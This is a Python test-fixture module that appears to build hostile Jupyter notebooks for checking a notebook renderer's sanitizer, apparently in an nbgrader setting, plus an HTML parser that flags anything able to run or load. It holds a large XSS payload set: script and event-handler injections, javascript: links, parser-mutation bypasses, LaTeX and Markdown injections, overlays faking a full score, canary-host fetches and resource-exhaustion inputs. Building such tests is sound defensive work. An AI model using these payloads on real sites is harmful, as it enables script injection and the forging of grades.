"""Notebooks that want their scripts run, the network asked or the page covered, wherever they are shown.

Each is a list of cells. What they do when they succeed, a browser can see: `window.ran`, a title, a dialog, a request, a navigation.
"""

import base64
import copy
import re
from html.parser import HTMLParser

import nbformat
from nbformat import v4

AWAY = "http://canary.invalid"  # no machine has this name
RUN = "window.ran=1;document.title='ran';alert(1)"
FORMULA = r"$$\frac{1}{m} \sum_{i=1}^m \lVert w \rVert_2^2$$"
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def b64(text):
    return base64.b64encode(text.encode()).decode()


SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"><script>{RUN}</script><image href='{AWAY}/svg.png'/></svg>"
_TEN = [f"<use xlink:href='#a{n}'/>" * 10 for n in range(19)]
DRAWN_WITHOUT_END = (
    "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><g id='a0'><rect width='9' height='9'/></g>"
    + "".join(f"<g id='a{n}'>{ten}</g>" for n, ten in enumerate(_TEN, 1))
    + "</svg>"
)

# HTML, to be met in Markdown, in outputs and in raw cells.
HTML = {
    "script": f"<script>{RUN}</script>",
    "script from away": f"<script src='{AWAY}/x.js'></script>",
    "module": f"<script type=module>import '{AWAY}/m.js'; {RUN}</script>",
    "unclosed script": f"<script>{RUN}</script",
    "picture's error": f'<img src="nothing.png" onerror="{RUN}">',
    "broken picture": f"<IMG SRC=x oNeRrOr={RUN}//",
    "slashes for spaces": f"<img/src=x/onerror={RUN}>",
    "svg": f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "svg's script": f"<svg><script>{RUN}</script></svg>",
    "svg's picture": f"<svg><image href='{AWAY}/a.png'/><use href='{AWAY}/b.svg#c'/></svg>",
    "frame": f'<iframe src="javascript:parent.{RUN}"></iframe><iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "frame from away": f"<iframe src='{AWAY}/frame'></iframe><object data='{AWAY}/o'></object><embed src='{AWAY}/e'>",
    "refresh": f'<meta http-equiv="refresh" content="0; url={AWAY}/refresh">',
    "base": f"<base href='{AWAY}/'><img src='relative/picture'>",
    "style": f"<style>@import url({AWAY}/s.css); body {{ background: url({AWAY}/b.png) }}</style><link rel=stylesheet href='{AWAY}/l.css'>",
    "preload": f"<link rel=prefetch href='{AWAY}/p'><link rel=preload as=image href='{AWAY}/q.png'>",
    "style of a box": f"<p style=\"background:url('{AWAY}/p.png');list-style:url({AWAY}/q.png)\">box</p>",
    "picture from away": f"<img src='{AWAY}/i.png' srcset='{AWAY}/s.png 2x'><video poster='{AWAY}/v.png' src='{AWAY}/v'></video>",
    "more from away": f"<audio autoplay src='{AWAY}/a'></audio><input type=image src='{AWAY}/n'><table background='{AWAY}/t'></table>",
    "focus": f'<input autofocus onfocus="{RUN}"><select autofocus onfocus="{RUN}"></select>',
    "details": f'<details open ontoggle="{RUN}"><summary>s</summary></details><marquee onstart="{RUN}">m</marquee>',
    "cover": '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999;background:red">All 5 points</div>',
    "cover by margins": '<div style="margin-top:-9999px;margin-left:-500px;padding:900px;background-color:red">All 5 points</div>',
    "nbgrader's names": '<div class="nbgrader_cell modal-backdrop"><p id="tests-dropout_forward" name="top" class="score navbar-fixed-top">x</p></div>',
    "form": f"<form action='{AWAY}/form' id=f><input name=x><button formaction='javascript:{RUN}'>b</button></form>",
    "link": f'<a href="javascript:{RUN}">a</a> <a href=" &#106;ava&#10;script:{RUN}">b</a> <a href="data:text/html,<script>{RUN}</script>">c</a>',
    "data as picture": f'<img src="data:text/html;base64,{b64(f"<script>{RUN}</script>")}">',
    "svg as picture": f'<img src="data:image/svg+xml;base64,{b64(SVG)}">',
    "svg without end": f'<img src="data:image/svg+xml;base64,{b64(DRAWN_WITHOUT_END)}">',
    "very many attributes": "<b " + " ".join(f"a{n}" for n in range(3_000)) + ">",
    "mathml": f'<math href="javascript:{RUN}"><maction actiontype="statusline#http://x" xlink:href="javascript:{RUN}">m</maction></math>',
    # What a parser mends so that a script appears.
    "mended 1": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "mended 2": f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    "mended 3": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "mended 4": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    "mended 5": f"<textarea><img title='</textarea><img src=x onerror={RUN}>'></textarea><xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    "mended 6": f"<!--><img src=x onerror={RUN}>--> <![CDATA[<img src=x onerror={RUN}>]]> <?x <img src=x onerror={RUN}>?>",
    "mended 7": f"<template><script>{RUN}</script></template><listing>&lt;img onerror={RUN} src=x&gt;</listing>",
    "half a tag": f'<a href="https://x/" title="<img src=x onerror={RUN}>" onmouseover="{RUN}" <b',
    "deep": "<div><b>" * 20_000,
    "long": "<p>" + "word " * 100_000,
}
MARKDOWN = {
    "md link": f"[a](javascript:{RUN}) [b](<JaVaScRiPt:{RUN}>) <javascript:{RUN}> [c]\n\n[c]: javascript:{RUN}",
    "md picture": f'![a]({AWAY}/md.png) ![b](x" onerror="{RUN}) ![c](data:text/html;base64,{b64(f"<script>{RUN}</script>")} "\\" onerror={RUN}")',
    "md mermaid": f"```mermaid\n</pre><script>{RUN}</script>\n```\n\n```<script>{RUN}</script>\nx\n```",
    "md heading": f"# <script>{RUN}</script> tests-dropout_forward\n\n# tests-dropout_forward",
    "formula 1": rf"$\text{{<img src=x onerror={RUN}></math><script>{RUN}</script>}}$ $<script>{RUN}</script>$",
    "formula 2": rf"$\href{{javascript:{RUN}}}{{x}} \class{{\" onclick={RUN}}}{{y}} \style{{position:fixed}}{{z}}$",
    "formula 3": rf"$\color{{red\" onmouseover=\"{RUN}}}{{x}}$ $$\begin{{<script>{RUN}</script>}}x\end{{y}}$$ $\unicode{{<script>{RUN}</script>}}$",
    "formula in a name": f'![$\\text{{" onerror="{RUN}" x="}}$](nothing.png) <img src=\'nothing.png\' alt=\'$" onerror="{RUN}"$\'> '
    f"[a](https://x/ '$\\text{{\" onmouseover=\"{RUN}}}$')",
    "formula across": f"$<img src=x $onerror={RUN}>$ $$<script>$${RUN}$$</script>$$ <p title='$\\alpha$'>$'onclick={RUN}>$</p>",
    "deep formula": "$" + r"\frac{" * 900 + "1" + "}{2}" * 900 + "$ $" + "{" * 1900 + "$ $" + r"\sqrt" * 390 + "$",
    "macros": r"$\newcommand{\a}[1]{\sqrt{\sqrt{\sqrt{#1}}}}\newcommand{\b}[1]{\a{\a{\a{\a{#1}}}}}\b{\b{\b{\b{x}}}}$ $\def\x{\x\x}\x$",
    "wide formula": r"$\hspace{-5000em}\kern-5000em x \hspace{99999em}$ $$\rule{9999em}{9999em}$$",
    "missing attachment": "![a](attachment:none.png)",
}


def display(data, metadata=None):
    return v4.new_output("display_data", data, metadata=metadata or {})


OUTPUTS = {
    "javascript": [display({"application/javascript": RUN})],
    "javascript beside text": [display({"application/javascript": RUN, "text/plain": "what is left"})],
    "svg output": [display({"image/svg+xml": SVG})],
    "svg without end, shown": [display({"image/svg+xml": DRAWN_WITHOUT_END})],
    "svg that ends early": [display({"image/svg+xml": f"</svg>'><script>{RUN}</script>"})],
    "png that is none": [display({"image/png": f'x" onerror="{RUN}" y="'})],
    "jpeg that is html": [display({"image/jpeg": b64(f"<script>{RUN}</script>")})],
    "size of a picture": [
        display({"image/png": PIXEL}, {"image/png": {"width": f"1 onerror={RUN}", "alt": f'" onerror="{RUN}', "unconfined": 1}})
    ],
    "size of a good picture": [display({"image/png": PIXEL}, {"image/png": {"height": f"1 onload={RUN}"}})],
    "file names": [display({"image/png": PIXEL}, {"filenames": {"image/png": f'{AWAY}/x.png" onerror="{RUN}'}})],
    "latex": [display({"text/latex": f"$x$ <script>{RUN}</script>"})],
    "markdown output": [display({"text/markdown": f"<script>{RUN}</script> [a](javascript:{RUN}) ![x]({AWAY}/mo.png)"})],
    "isolated": [display({"text/html": f"<script>parent.{RUN}</script>"}, {"text/html": {"isolated": True}})],
    "widget": [display({"application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{RUN}</script>"}})],
    "mermaid": [display({"text/vnd.mermaid": f"</pre><script>{RUN}</script>"})],
    "pdf and others": [display({"application/pdf": "x"}), display({"text/x<script>": f"<script>{RUN}</script>"}), display({})],
    "stream": [v4.new_output("stream", text=f"<script>{RUN}</script>\x1b[31m<img src=x onerror={RUN}>\x1b[0m\x1b[1;38;2;1;2;3mx")],
    "codes no terminal knows": [
        v4.new_output("stream", text="\x1b[38m\x1b[48;5m\x1b[38;2;1m<b>bold</b>\x1b]0;title\x07\x1b[2J\x1b[999999m")
    ],
    "many codes": [v4.new_output("stream", text="\x1b[31mx\x1b[0m" * 20_000)],
    "stderr": [v4.new_output("stream", name="stderr", text=f"<img src=x onerror={RUN}>")],
    "error": [
        v4.new_output("error", ename=f"<script>{RUN}</script>", evalue="x", traceback=[f"<img src=x onerror={RUN}>", f"<script>{RUN}"])
    ],
    "many outputs": [v4.new_output("stream", text="x")] * 3000,
    "long output": [v4.new_output("stream", text="x" * 2_000_000)],
    "result": [v4.new_output("execute_result", {"text/html": f"<img src=x onerror={RUN}>", "text/plain": "3.0"}, execution_count=3)],
}


def notebooks():
    """Return all of them: {name: cells}."""
    found = {name: [v4.new_markdown_cell(text)] for name, text in (HTML | MARKDOWN).items()}
    found |= {f"{name}, raw": [v4.new_raw_cell(text)] for name, text in list(HTML.items())[:3]}
    found |= {f"{name}, in a line": [v4.new_markdown_cell(f"- a {text} b\n- c")] for name, text in HTML.items() if len(text) < 2000}
    found |= {f"{name}, output": [code([display({"text/html": text, "text/plain": "plain"})])] for name, text in HTML.items()}
    found |= {name: [code(outputs)] for name, outputs in OUTPUTS.items()}
    found["code"] = [v4.new_code_cell(f"</pre></div><script>{RUN}</script><img src=x onerror={RUN}>\n%%html\n<script>{RUN}</script>")]
    found["attachment"] = [
        v4.new_markdown_cell(
            "![a](attachment:a) ![b](attachment:b) ![c](attachment:c)",
            attachments={
                "a": {"text/html": b64(f"<script>{RUN}</script>")},
                "b": {"image/svg+xml": b64(SVG)},
                "c": {f'image/png" onerror="{RUN}': f'x" onerror="{RUN}'},
            },
        )
    ]
    found["metadata of cells"] = [metadata_cell()]
    return {name: [*copy.deepcopy(cells), v4.new_markdown_cell(FORMULA)] for name, cells in found.items()}


def code(outputs):
    return v4.new_code_cell("1 + 1", outputs=outputs, execution_count=1)


def metadata_cell():
    cell = v4.new_code_cell("x = 1")
    cell.metadata.update(tags=[f'"><script>{RUN}</script>'], alt=f'"><script>{RUN}</script>', magics_language=f"<script>{RUN}</script>")
    cell.metadata["nbgrader"] = {
        "grade_id": f'"><script>{RUN}</script>',
        "grade": True,
        "solution": True,
        "comment": f"<script>{RUN}</script>",
    }
    return cell


def notebook(cells):
    """Return a notebook of some cells, whose own metadata are hostile too."""
    script = f"</title></script><script>{RUN}</script>"
    cells = copy.deepcopy(cells)
    for n, cell in enumerate(cells):
        cell.id = f"hostile-{n}"
    made = v4.new_notebook(cells=cells)
    made.metadata = nbformat.from_dict(
        {
            "title": script,
            "kernelspec": {"name": script, "display_name": script, "language": script},
            "language_info": {"name": script, "pygments_lexer": script, "mimetype": script},
            "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"x": script}, "version_major": 2, "version_minor": 0}},
        }
    )
    return made


class Look(HTMLParser):
    """What of a page could run, load or lead somewhere."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.found, self.tags, self.text, self.policy = [], [], "", None
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attributes):
        given = dict(attributes)
        self.tags.append((tag, given))
        if tag in ("script", "style") and self.policy and given.get("nonce", "-") in self.policy:
            return
        if tag == "meta" and given.get("http-equiv") == "Content-Security-Policy":
            assert self.tags[-2][0] == "head"  # before all that it is to stop
            self.policy = given["content"]
        elif (
            tag == "script"
            or tag in ("iframe", "object", "embed", "base", "form", "svg", "video", "audio", "template", "noscript")
            or "http-equiv" in given
        ):
            self.found.append((tag, given))
        for name, value in attributes:
            value = (value or "").strip().lower()
            own = name == "onclick" and re.fullmatch(r"toggle_name\((true|false)\);", value)
            if (name.startswith("on") and not own) or name in ("srcset", "srcdoc", "background", "poster", "formaction", "xlink:href"):
                self.found.append((tag, name, value))
            elif (name == "src" and tag != "script") or (name == "href" and tag != "link"):
                if not re.match(self.allowed(tag), value):
                    self.found.append((tag, name, value))
            elif name == "style" and re.search(r"url|position|fixed|absolute|:\s*-|expression", value):
                self.found.append((tag, name, value))

    @staticmethod
    def allowed(tag):
        return r"data:image/(png|jpeg|svg\+xml);base64,[a-z0-9+/=]+$|\w+\.png$" if tag == "img" else r"#|https?://|/formgrader/"

    def handle_data(self, data):
        self.text += data
